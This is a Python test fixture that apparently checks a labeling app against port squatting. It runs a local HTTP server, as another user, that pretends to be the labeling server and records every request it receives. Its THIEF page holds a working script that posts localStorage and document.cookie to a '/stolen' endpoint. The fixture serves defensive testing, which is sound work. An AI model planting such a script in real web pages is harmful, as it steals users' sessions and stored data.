"""Another user of the machine, who listens where the labeling server did."""

from __future__ import annotations

import os
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from multiprocessing.connection import Connection
from typing import Any

from label_project import SPAWN

NOBODY = 65534
THIEF = b"""<!doctype html><script type="module" src="/static/app.js"></script><script>
fetch("/stolen", { method: "POST", body: JSON.stringify({ ...localStorage, cookie: document.cookie }) });
</script>"""


class Stranger:
    """What they were sent, and what they answer."""

    def __init__(self, port: int) -> None:
        self._pipe, theirs = SPAWN.Pipe()
        self._process = SPAWN.Process(target=_listen, args=(port, theirs))
        self._process.start()
        assert self._ask("answer", 404) == "listening"

    def _ask(self, *what: Any) -> Any:
        self._pipe.send(what)
        assert self._pipe.poll(60), "the stranger does not answer"
        return self._pipe.recv()

    def answer(self, status: int) -> None:
        """Answer everything with ``status`` from now on."""
        self._ask("answer", status)

    def seen(self) -> list[tuple[str, dict[str, str], bytes]]:
        """(request line, headers, body) of all requests."""
        return list(self._ask("seen", None))

    def end(self) -> None:
        self._process.terminate()
        self._process.join()


def _listen(port: int, pipe: Connection) -> None:
    "".encode("idna")  # what is imported later lies in folders that nobody may read
    if os.getuid() == 0:
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    seen: list[tuple[str, dict[str, str], bytes]] = []
    status = [404]

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            seen.append((self.requestline, dict(self.headers.items()), body))
            is_page = self.path == "/"
            is_script = self.path.startswith("/static/")
            content = THIEF if is_page else b'{"error": "no", "acknowledged": [], "person": "anna"}'
            if is_script:
                content = b"document.title = 'eve'"
            kind = "text/html" if is_page else "text/javascript" if is_script else "application/json"
            self.send_response(200 if is_page or is_script else status[0])
            self.send_header("Content-Type", kind)
            self.send_header("Cache-Control", "max-age=31536000, immutable" if is_script else "no-store")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    while True:
        kind, value = pipe.recv()
        if kind == "answer":
            status[0] = value
        pipe.send("listening" if kind == "answer" else list(seen))


@contextmanager
def stranger(port: int) -> Iterator[Stranger]:
    """Somebody else at ``port``; of another user where the tests are root's."""
    somebody = Stranger(port)
    try:
        yield somebody
    finally:
        somebody.end()
